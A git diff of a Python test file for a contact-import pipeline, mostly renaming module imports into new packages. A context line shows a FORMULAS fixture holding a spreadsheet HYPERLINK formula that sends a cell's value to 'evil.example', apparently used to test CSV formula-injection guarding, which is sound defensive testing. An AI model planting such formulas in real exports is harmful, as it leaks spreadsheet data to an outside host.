@@ -17,12 +17,12 @@ from pathlib import Path
 
 import pytest
 
-from pipeline import importer
-from pipeline.audience import load_audience
-from pipeline.csvsafe import AtomicCsv, guard, remove_stale_temps, unguard
-from pipeline.exports import angle_address, read_csv_lines, split_addresses
-from pipeline.importer import import_contacts
-from pipeline.mime import address
+from pipeline.contacts import importer
+from pipeline.contacts.audience import load_audience
+from pipeline.contacts.csvsafe import AtomicCsv, guard, remove_stale_temps, unguard
+from pipeline.contacts.exports import angle_address, read_csv_lines, split_addresses
+from pipeline.contacts.importer import import_contacts
+from pipeline.rendering.mime import address
 from tests.conftest import REPO
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1)',
@@ -330,9 +330,9 @@ def test_a_terminal_shows_a_progress_bar(project: Path, cli, tmp_path: Path,
 
     from rich.console import Console
 
-    import pipeline.cli_contacts
+    import pipeline.cli.contacts
     screen = io.StringIO()
-    monkeypatch.setattr(pipeline.cli_contacts, "err",
+    monkeypatch.setattr(pipeline.cli.contacts, "err",
                         Console(file=screen, force_terminal=True, width=100))
     export = _write(tmp_path / "x.csv", [["Email"]] + [[f"c{i}@example.com"] for i in range(50)])
     result = cli("contacts", "import", str(export), "--audience", "bar", project=project)
